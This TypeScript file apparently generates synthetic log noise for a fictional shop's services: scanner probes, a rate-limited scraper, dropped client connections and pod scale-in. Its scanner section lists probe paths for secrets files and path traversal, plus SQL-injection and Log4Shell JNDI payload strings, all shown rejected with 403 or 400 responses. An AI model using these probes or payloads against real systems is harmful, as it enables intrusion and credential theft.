// Traffic at the front door that looks hostile or broken and is neither: vulnerability scanners, a price
// scraper held at its rate limit, shoppers losing signal mid-request, pods scaled in after the morning peak.
import { customerIp, ev, plant, podIp, publicIp } from "../domain.js";
import { shutdownLines } from "../lifecycle.js";
import { dotnetTrace, goStack, javaTrace, nodeTrace } from "../stacks.js";
import type { Ctx, Ev, Level, Service } from "../types.js";
import { count, edgeHit, type NoiseKind, times } from "./util.js";

const PROBES = [
  "/.env",
  "/wp-login.php",
  "/xmlrpc.php",
  "/.git/config",
  "/phpmyadmin/index.php",
  "/actuator/env",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/cgi-bin/luci/;stok=/locale",
  "/boaform/admin/formLogin",
  "/server-status",
  "/owa/auth/logon.aspx",
  "/.aws/credentials",
  "/config.json",
  "/HNAP1/",
  "/wp-content/plugins/wp-file-manager/readme.txt",
  "/api/plants?id=1%27%20OR%20%271%27=%271",
  "/..%2f..%2f..%2f..%2fetc/passwd",
];

export const scanner: NoiseKind = {
  id: "scanner",
  what: "an internet vulnerability scanner probing for .env, wp-login and path traversal, answered 404/403",
  make(c, at, big) {
    const r = c.r;
    const edge = c.svc("edge");
    const ip = publicIp(r);
    const out: Ev[] = [];
    const n = count(c, big, [80, 220], [8, 25]);
    for (const t of times(c, at, big ? 240000 : 90000, n)) {
      const path = r.pick(PROBES);
      const waf = path.includes("%27") || path.includes("passwd");
      if (edge.name === "mmedge") {
        out.push(
          edgeHit(c, t, r.pick(["GET", "GET", "POST"]), path, waf ? 403 : 404, r.int(0, 3), "INFO", waf ? "-" : "NR"),
        );
        continue;
      }
      out.push(
        edgeHit(
          c,
          t,
          r.pick(["GET", "GET", "POST", "HEAD"]),
          path,
          waf ? 403 : 404,
          r.int(0, 6),
          waf ? "WARN" : "INFO",
        ),
      );
      if (waf)
        out.push(
          ev(
            t + 1,
            edge.name,
            "WARN",
            `WAF blocked request from ${ip}: rule 942100 "SQL Injection Attack Detected via libinjection" uri="${path}"`,
          ),
        );
    }
    const extra = big ? r.int(4, 12) : r.int(1, 3);
    for (const t of times(c, at, big ? 240000 : 90000, extra)) out.push(...runtimeProbeError(c, edge, t, ip));
    const cat = c.svc("catalog");
    const inj = r.pick([
      "1' OR '1'='1",
      "1;SELECT pg_sleep(5)--",
      "$" + "{jndi:ldap://45.146.164.9/a}",
      "../../../../etc/passwd",
    ]);
    for (const t of times(c, at, big ? 240000 : 90000, count(c, big, [10, 30], [1, 3])))
      out.push(
        ev(
          t,
          cat.name,
          r.chance(0.4) ? "ERROR" : "WARN",
          cat.runtime === "java"
            ? `Resolved [org.springframework.web.method.annotation.MethodArgumentTypeMismatchException: Failed to convert value of type 'java.lang.String' to required type 'long'; For input string: "${inj}"]`
            : `rejected plant query from ${ip}: invalid id ${JSON.stringify(inj)} (400)`,
        ),
      );
    return out;
  },
};

function runtimeProbeError(c: Ctx, edge: Service, t: number, ip: string): Ev[] {
  const r = c.r;
  switch (edge.runtime) {
    case "go":
      if (edge.name === "mmedge")
        return [
          ev(
            t,
            edge.name,
            "WARN",
            `[${new Date(t).toISOString()}] "GET /cgi-bin/luci/;stok=/locale HTTP/1.1" 400 DPE 0 11 0 - "${ip}" "-" "-" "-" "-"`,
          ),
        ];
      if (r.chance(0.7))
        return [
          ev(
            t,
            edge.name,
            "ERROR",
            `http: TLS handshake error from ${ip}:${r.int(30000, 65000)}: ${r.pick(["tls: client offered only unsupported versions: [302 301]", "EOF", "tls: no cipher suite supported by both client and server", "read: connection reset by peer"])}`,
          ),
        ];
      return [
        ev(
          t,
          edge.name,
          "ERROR",
          `http: panic serving ${ip}:${r.int(30000, 65000)}: runtime error: slice bounds out of range [:-1]`,
          {
            stack: goStack(r.int(20000, 90000), [
              { fn: "net/http.(*conn).serve.func1()", file: "/usr/local/go/src/net/http/server.go", line: 1903 },
              { fn: "panic({0x9a3b20?, 0xc0003a2f18?})", file: "/usr/local/go/src/runtime/panic.go", line: 770 },
              { fn: `main.parseRange(...)`, file: `/src/${edge.name}/internal/query/range.go`, line: 41 },
              {
                fn: `main.(*Router).plants(0xc0001b6000, {0xb1c2e8, 0xc0004a6000}, 0xc000512100)`,
                file: `/src/${edge.name}/router.go`,
                line: 212,
              },
              {
                fn: "net/http.HandlerFunc.ServeHTTP(0xc0004d2a80?, {0xb1c2e8?, 0xc0004a6000?}, 0xc000512100?)",
                file: "/usr/local/go/src/net/http/server.go",
                line: 2171,
              },
              {
                fn: "net/http.(*conn).serve(0xc0002a4000, {0xb1d0a8, 0xc000290f60})",
                file: "/usr/local/go/src/net/http/server.go",
                line: 2099,
              },
              {
                fn: "created by net/http.(*Server).Serve in goroutine 1",
                file: "/usr/local/go/src/net/http/server.go",
                line: 3285,
              },
            ]),
          },
        ),
      ];
    case "node":
      return [
        ev(t, edge.name, "ERROR", `request from ${ip} failed to decode`, {
          stack: nodeTrace("URIError: Failed to decode param '%c0%ae%c0%ae'", [
            "decodeURIComponent (<anonymous>)",
            "decode_param (/app/node_modules/express/lib/router/layer.js:172:12)",
            "Layer.match (/app/node_modules/express/lib/router/layer.js:148:15)",
            "matchLayer (/app/node_modules/express/lib/router/index.js:585:18)",
            "next (/app/node_modules/express/lib/router/index.js:226:15)",
          ]),
          err: { type: "URIError", message: "Failed to decode param '%c0%ae%c0%ae'" },
        }),
      ];
    case "dotnet":
      return [
        ev(
          t,
          edge.name,
          "WARN",
          `Connection id "0HN3${r.alnum(9).toUpperCase()}" bad request data: "Invalid request line: 'GET /..%2f..%2fetc/passwd HTTP/1.1\\x0D\\x0A'"`,
          { logger: "Microsoft.AspNetCore.Server.Kestrel" },
        ),
      ];
    default:
      return [ev(t, edge.name, "WARN", `rejected malformed request from ${ip}: invalid percent-encoding in path`)];
  }
}

export const scraperRateLimited: NoiseKind = {
  id: "scraper-rate-limited",
  what: "a competitor's price scraper walking every plant page and held at the edge rate limit with 429s",
  make(c, at, big) {
    const r = c.r;
    const edge = c.svc("edge");
    const cat = c.svc("catalog");
    const ip = publicIp(r);
    const out: Ev[] = [];
    const dur = big ? r.int(300000, 600000) : r.int(60000, 150000);
    for (const t of times(c, at, dur, count(c, big, [150, 380], [15, 40]))) {
      const p = plant(r);
      if (edge.name === "mmedge") {
        out.push(edgeHit(c, t, "GET", `/api/plants/${p.slug}`, 429, 0, "INFO", "RL"));
        continue;
      }
      out.push(
        edgeHit(c, t, "GET", `${c.e.vocab.api}/plants/${p.slug}`, 429, r.int(0, 2), r.chance(0.6) ? "WARN" : "INFO"),
      );
    }
    for (const t of times(c, at, dur, big ? r.int(8, 16) : r.int(1, 3)))
      out.push(
        ev(
          t,
          edge.name === "mmedge" ? cat.name : edge.name,
          "WARN",
          `rate limit exceeded key=ip:${ip} route=/plants limit=120/min blocked_last_min=${r.int(200, 900)} ua="python-requests/2.31.0"`,
        ),
      );
    for (const t of times(c, at, dur, big ? r.int(3, 6) : 1))
      out.push(ev(t, cat.name, "WARN", `unusual paging depth page=${r.int(150, 600)} from ${ip}, serving from cache`));
    return out;
  },
};

export const clientAborts: NoiseKind = {
  id: "client-aborts",
  what: "shoppers on weak car-park signal dropping connections mid-response (broken pipes, aborted requests)",
  make(c, at, big) {
    const r = c.r;
    const targets = [c.svc("edge"), c.svc("catalog"), c.svc("stock")];
    const out: Ev[] = [];
    for (const t of times(c, at, big ? 900000 : 400000, count(c, big, [30, 80], [4, 10]))) {
      const s = r.pick(targets);
      out.push(abortLine(c, s, t));
    }
    return out;
  },
};

function abortLine(c: Ctx, s: Service, t: number): Ev {
  const r = c.r;
  const lv: Level = r.chance(0.5) ? "ERROR" : "WARN";
  switch (s.runtime) {
    case "java":
      if (r.chance(0.5))
        return ev(
          t,
          s.name,
          "WARN",
          "Resolved [org.springframework.web.context.request.async.AsyncRequestNotUsableException: ServletOutputStream failed to write: java.io.IOException: Broken pipe]",
          { logger: "o.s.w.s.m.s.DefaultHandlerExceptionResolver", thread: `http-nio-8080-exec-${r.int(1, 40)}` },
        );
      return ev(t, s.name, "ERROR", "Servlet.service() for servlet [dispatcherServlet] threw exception", {
        logger: "o.a.c.c.C.[.[.[/].[dispatcherServlet]",
        thread: `http-nio-8080-exec-${r.int(1, 40)}`,
        err: {
          type: "org.apache.catalina.connector.ClientAbortException",
          message: "java.io.IOException: Broken pipe",
        },
        stack: javaTrace(
          "org.apache.catalina.connector.ClientAbortException: java.io.IOException: Broken pipe",
          [
            "org.apache.catalina.connector.OutputBuffer.realWriteBytes(OutputBuffer.java:341)",
            "org.apache.catalina.connector.OutputBuffer.flushByteBuffer(OutputBuffer.java:778)",
            "org.apache.catalina.connector.OutputBuffer.append(OutputBuffer.java:683)",
            "org.apache.catalina.connector.CoyoteOutputStream.write(CoyoteOutputStream.java:124)",
            "com.fasterxml.jackson.core.json.UTF8JsonGenerator._flushBuffer(UTF8JsonGenerator.java:2203)",
          ],
          [
            {
              head: "java.io.IOException: Broken pipe",
              frames: [
                "java.base/sun.nio.ch.SocketDispatcher.write0(Native Method)",
                "java.base/sun.nio.ch.SocketDispatcher.write(SocketDispatcher.java:62)",
                "java.base/sun.nio.ch.NioSocketImpl.tryWrite(NioSocketImpl.java:394)",
              ],
              more: 41,
            },
          ],
        ),
      });
    case "node":
      return ev(t, s.name, lv, "request aborted by client", {
        err: { type: "Error", message: "aborted" },
        stack: nodeTrace("Error: aborted", [
          "abortIncoming (node:_http_server:806:17)",
          "socketOnClose (node:_http_server:800:3)",
          "Socket.emit (node:events:530:35)",
          "TCP.<anonymous> (node:net:337:12)",
        ]),
      });
    case "go":
      return ev(
        t,
        s.name,
        lv,
        r.chance(0.5)
          ? `write response: write tcp ${podIp(r)}:8080->${podIp(r)}:${r.int(30000, 60000)}: write: broken pipe`
          : `request canceled by client: context canceled path=/plants/${plant(r).slug}`,
      );
    case "dotnet":
      return ev(
        t,
        s.name,
        "ERROR",
        `An exception occurred while iterating over the results of a query for context type '${s.name === "stockkeeper" ? "MossMarigold.Stock.StockDbContext" : "AppDbContext"}'.`,
        {
          logger: "Microsoft.EntityFrameworkCore.Query",
          err: { type: "System.Threading.Tasks.TaskCanceledException", message: "A task was canceled." },
          stack: dotnetTrace("System.Threading.Tasks.TaskCanceledException: A task was canceled.", [
            "Npgsql.Internal.NpgsqlConnector.ReadMessageLong(Boolean async, DataRowLoadingMode dataRowLoadingMode, Boolean readingNotifications, Boolean isReadingPrependedMessage)",
            "Npgsql.NpgsqlDataReader.NextResult(Boolean async, Boolean isConsuming, CancellationToken cancellationToken)",
            "Microsoft.EntityFrameworkCore.Query.Internal.SingleQueryingEnumerable`1.AsyncEnumerator.MoveNextAsync()",
          ]),
        },
      );
    case "python":
      return ev(
        t,
        s.name,
        "WARN",
        `client ${customerIp(r)} disconnected before response completed (BrokenPipeError: [Errno 32] Broken pipe)`,
      );
    case "ruby":
      return ev(t, s.name, lv, "Puma::ConnectionError: Connection error detected during write");
  }
}

export const scaleIn: NoiseKind = {
  id: "scale-in",
  what: "the autoscaler removing pods after the morning peak, cutting long-polls and websockets that reconnect",
  make(c, at, big) {
    const r = c.r;
    const s = r.pick([c.svc("catalog"), c.svc("edge"), c.svc("loyalty")]);
    const out: Ev[] = [];
    const pods = big ? r.int(2, 3) : 1;
    for (let i = 0; i < pods; i++) {
      const t = at + i * r.int(60000, 150000);
      out.push(...shutdownLines(r, s, t));
      for (const u of times(c, t + 50, 3000, big ? r.int(15, 40) : r.int(3, 8))) {
        let msg: string;
        let lv: Level = "WARN";
        switch (s.runtime) {
          case "go":
            msg = `stream closed: context canceled (stock updates subscriber ${r.hex(6)})`;
            lv = "ERROR";
            break;
          case "node":
            msg = `websocket closed code=1001 reason="going away" client=${r.hex(8)}`;
            break;
          case "dotnet":
            msg = `SignalR connection ${r.alnum(22)} closed with error: The server is shutting down.`;
            lv = "ERROR";
            break;
          default:
            msg = `long-poll ${r.hex(8)} interrupted by shutdown, client will retry`;
        }
        out.push(ev(u, s.name, lv, msg));
      }
      out.push(ev(t + r.int(4000, 9000), s.name, "INFO", `${r.int(10, 40)} clients reconnected to remaining replicas`));
    }
    return out;
  },
};
